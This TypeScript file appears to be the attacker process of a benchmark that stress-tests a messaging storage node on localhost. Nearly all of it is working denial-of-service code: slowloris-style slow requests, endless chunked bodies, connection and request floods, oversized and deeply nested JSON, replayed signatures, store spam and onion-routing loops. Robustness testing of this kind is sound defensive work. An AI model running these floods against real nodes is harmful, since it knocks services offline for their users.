/**
 * Whoever attacks a node in the bench `abuse`: a process at the lowest priority that attacks while it is told to. It does not wait between two
 * requests, except where that is the attack, and opens again what the node closes.
 *
 *     node attacker.js ATTACK PORT ED25519 X25519       messages to it: true begins, false ends
 */
import { connect, type Socket } from 'node:net'
import { setPriority } from 'node:os'
import { type Crypto, ed25519KeyPair, loadCrypto, Secret, systemRandom } from '@session-v2/crypto'
import { encodeHex, encodeUtf8 } from '@session-v2/encoding'
import {
  buildRetrieve,
  type Namespace,
  ONION_REQUEST_PATH,
  type RequestSigner,
  type RpcRequest,
  STORAGE_RPC_PATH,
  sealOnion,
} from '@session-v2/network'

const HOST = '127.0.0.1'
/** Of one address as many as the node keeps. */
const CONNECTIONS = 512
const SLOW_CONNECTIONS = 2048
const SLOW_ADDRESSES = 4
const LONG_BODIES = 8
const PIPELINED = 500
const MIB = 1024 * 1024
const LONG_BYTES = 10 * MIB - 4096
const LOOP_HOPS = 15
const SECOND_MS = 1000
const HOUR_MS = 3_600_000
const OPENED_AT_ONCE = 200
const MANY_CONNECTIONS = 10_000
const MANY_ADDRESSES = 25
const PAGE_MESSAGES = 75
const MESSAGE_BYTES = 75_000
const LOWEST_PRIORITY = 19

const [, , attack = '', port, ed25519 = '', x25519 = ''] = process.argv
const target = { ed25519, x25519 }
const random = systemRandom()
const sockets = new Set<Socket>()
let isOn = false

const HEAD = `POST ${STORAGE_RPC_PATH} HTTP/1.1\r\nHost: a\r\n`
const CHUNKED = `${HEAD}Transfer-Encoding: chunked\r\n\r\n`
const INFO = rpc('{"method":"info","params":{}}')
const JSON_PARTS = ['[],', '"a",', '1,', '"\\"",', '{"":0},']

const ATTACKS: Readonly<Record<string, (crypto: Crypto) => unknown>> = {
  'slow heads': () => drip('POST / HTTP/1.1\r\nX: '),
  'slow bodies': () => drip(`${HEAD}Content-Length: 100000\r\n\r\n`),
  'endless bodies': () => pour(`10000\r\n${'x'.repeat(65_536)}\r\n`),
  'endless bodies in single bytes': () => pour('1\r\nx\r\n'.repeat(10_000)),
  'pages that nobody takes': neverRead,
  '10,000 connections': () => Array.from({ length: OPENED_AT_ONCE }, (_, i) => hold(i)),
  'a flood of one address': () => repeat(CONNECTIONS, () => INFO),
  'a flood that is sent ahead': () => repeatOf(CONNECTIONS, Buffer.concat(Array(PIPELINED).fill(INFO))),
  'a flood of unknown paths': () => repeatOf(CONNECTIONS, Buffer.from('GET /x HTTP/1.1\r\nHost: a\r\n\r\n')),
  'huge JSON': () => repeatEach(JSON_PARTS.map(part => filled('{"method":"info","params":{"a":[', part))),
  'deep JSON': () => repeatEach([filled('', '['), filled('', '{"":')]),
  'huge and deep bt': () => repeatEach(['le', 'i1e', '0:', 'l'].map(part => filled('d1:al', part))),
  'replayed signatures': crypto => {
    const requests = Array.from({ length: CONNECTIONS }, () =>
      rpc(JSON.stringify(retrieveAt(crypto, newAccount(crypto), Date.now() - HOUR_MS))),
    )
    repeat(CONNECTIONS, i => requests[i]!)
  },
  'hash squatting': () => {
    const pubkey = `03${encodeHex(random.bytes(32))}`
    let i = 0
    repeat(CONNECTIONS, () => {
      const data = Buffer.from(`21${i++}`.padEnd(MIB / 1024)).toString('base64')
      return rpc(JSON.stringify({ method: 'store', params: { pubkey, timestamp: Date.now(), ttl: HOUR_MS, data } }))
    })
  },
  'forged path errors': crypto => repeatOnions(crypto, 1, { ...target, ed25519: encodeHex(random.bytes(32)) }),
  'onion loops': crypto => repeatOnions(crypto, LOOP_HOPS, target),
}

function rpc(body: string | Uint8Array, path = STORAGE_RPC_PATH): Buffer {
  const bytes = Buffer.from(body as string)
  return Buffer.concat([Buffer.from(`POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: ${bytes.length}\r\n\r\n`), bytes])
}

function filled(begin: string, part: string): Buffer {
  return rpc(begin + part.repeat(LONG_BYTES / part.length))
}

function newAccount(crypto: Crypto): RequestSigner {
  const { publicKey, secretKey } = ed25519KeyPair(crypto, Secret.of(random.bytes(32), 'ed25519-seed'))
  return { accountId: `03${encodeHex(publicKey)}`, publicKey, secretKey }
}

function retrieveAt(crypto: Crypto, signer: RequestSigner, timestampMs: number): RpcRequest {
  return buildRetrieve(crypto, { accountId: signer.accountId, namespace: 0 as Namespace, timestampMs, signer })
}

/** Through the node itself, so many times, and then to a node that it may not know. */
function repeatOnions(crypto: Crypto, hops: number, to: typeof target): void {
  const path = Array.from({ length: hops }, () => target)
  const requests = Array.from({ length: CONNECTIONS }, () => {
    const payload = encodeUtf8('{"method":"info","params":{}}')
    return rpc(sealOnion(crypto, random, path, { kind: 'node', ...to }, payload).body, ONION_REQUEST_PATH)
  })
  repeat(CONNECTIONS, i => requests[i]!)
}

/** Keeps so many connections of one address busy: sends the next request when something has come back. */
function repeat(connections: number, requestOf: (i: number) => Buffer): void {
  for (let i = 0; i < connections; i++) {
    open('127.0.1.1', socket => {
      const send = () => socket.write(requestOf(i))
      socket.on('data', send)
      send()
    })
  }
}

function repeatOf(connections: number, request: Buffer): void {
  repeat(connections, () => request)
}

function repeatEach(requests: readonly Buffer[]): void {
  repeat(LONG_BODIES, i => requests[i % requests.length]!)
}

function pour(more: string): void {
  const piece = Buffer.from(more)
  for (let i = 0; i < LONG_BODIES; i++) {
    open('127.0.1.1', socket => {
      const send = (): void => {
        while (isOn && !socket.destroyed && socket.write(piece));
      }
      socket.on('drain', send)
      socket.write(CHUNKED)
      send()
    })
  }
}

function drip(begin: string): void {
  for (let i = 0; i < SLOW_CONNECTIONS; i++) {
    open(`127.0.1.${1 + (i % SLOW_ADDRESSES)}`, socket => {
      socket.write(begin)
      const timer = setInterval(() => socket.write('x'), SECOND_MS)
      socket.once('close', () => clearInterval(timer))
    })
  }
}

/** A mailbox of its own, filled: its largest page, asked for on connections of which nothing is read. */
function neverRead(crypto: Crypto): void {
  const signer = newAccount(crypto)
  const pubkey = signer.accountId
  for (let i = 0; i < PAGE_MESSAGES; i++) {
    const data = Buffer.alloc(MESSAGE_BYTES, i).toString('base64')
    const store = { method: 'store', params: { pubkey, timestamp: Date.now(), ttl: HOUR_MS, data } }
    open('127.0.1.2', socket => socket.end(rpc(JSON.stringify(store))), false)
  }
  const again = (): void => {
    const { method, params } = retrieveAt(crypto, signer, Date.now())
    open('127.0.1.1', socket => socket.pause().write(rpc(JSON.stringify({ method, params: { ...params, max_size: -1 } }))), false)
    if (isOn) setTimeout(again, SECOND_MS / 20)
  }
  setTimeout(again, SECOND_MS / 2)
}

/** Opens one connection after the other and keeps them, until there are too many. */
function hold(chain: number): void {
  if (!isOn) return
  if (sockets.size >= MANY_CONNECTIONS) {
    setTimeout(hold, SECOND_MS / 10, chain)
    return
  }
  const socket = track(connect({ port: Number(port), host: HOST, localAddress: `127.0.1.${1 + (chain % MANY_ADDRESSES)}` }))
  socket.once('connect', () => setImmediate(hold, chain))
}

/** A connection that is opened again when it is closed, for as long as the attack goes on. */
function open(localAddress: string, use: (socket: Socket) => void, again = true): void {
  if (!isOn) return
  const socket = track(connect({ port: Number(port), host: HOST, localAddress }, () => use(socket)))
  if (again) socket.once('close', () => setImmediate(open, localAddress, use))
}

function track(socket: Socket): Socket {
  sockets.add(socket)
  socket.on('error', () => {})
  socket.once('close', () => sockets.delete(socket))
  return socket
}

if (!(attack in ATTACKS)) throw new Error(`no attack is called ${attack}`)
setPriority(LOWEST_PRIORITY)
const crypto = await loadCrypto()
process.on('message', (begins: boolean) => {
  isOn = begins
  if (begins) ATTACKS[attack]!(crypto)
  else for (const socket of sockets) socket.destroy()
})
process.on('disconnect', () => process.exit(0))
process.send?.({ ready: true })
